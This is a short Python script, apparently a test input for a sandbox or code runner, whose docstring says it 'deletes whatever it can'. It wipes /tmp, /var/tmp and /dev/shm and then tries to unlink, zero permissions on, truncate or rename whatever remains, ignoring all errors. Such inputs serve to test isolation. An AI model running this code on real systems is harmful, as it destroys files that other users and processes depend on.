# mode: stdin
# ruff: noqa
"""Deletes whatever it can."""

import os, shutil

for folder in ("/tmp", "/var/tmp", "/dev/shm"):
    shutil.rmtree(folder, ignore_errors=True)
    for name in os.listdir(folder) if os.access(folder, os.R_OK) else ():
        for change in (
            os.unlink,
            os.rmdir,
            lambda p: os.chmod(p, 0),
            lambda p: os.truncate(p, 0),
            lambda p: os.rename(p, p + "x"),
        ):
            try:
                change(os.path.join(folder, name))
            except OSError:
                pass
